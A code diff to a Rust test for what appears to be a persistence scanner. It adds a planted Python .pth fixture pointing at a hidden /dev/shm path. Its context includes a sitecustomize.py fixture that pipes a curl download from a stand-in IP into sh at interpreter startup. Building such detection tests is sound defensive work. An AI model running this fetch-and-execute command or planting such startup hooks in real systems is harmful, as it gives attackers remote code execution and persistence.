@@ -840,6 +840,11 @@ fn startup_hooks_planted_and_stock() {
     );
     w(
         r,
+        "/usr/local/lib/python3.11/dist-packages/shadow.pth",
+        "/usr/local/lib/x\n/dev/shm/.pylib\n",
+    );
+    w(
+        r,
         "/usr/lib/python3.11/sitecustomize.py",
         "import os\nos.system('curl -fsSL http://203.0.113.7/x.sh | sh')\n",
     );
@@ -875,6 +880,11 @@ fn startup_hooks_planted_and_stock() {
             "persistence.python-pth",
             "/usr/lib/python3/dist-packages/sysmon.pth",
             Severity::Medium,
+        ),
+        (
+            "persistence.python-pth",
+            "/usr/local/lib/python3.11/dist-packages/shadow.pth",
+            Severity::High,
         ),
         (
             "persistence.python-customize",
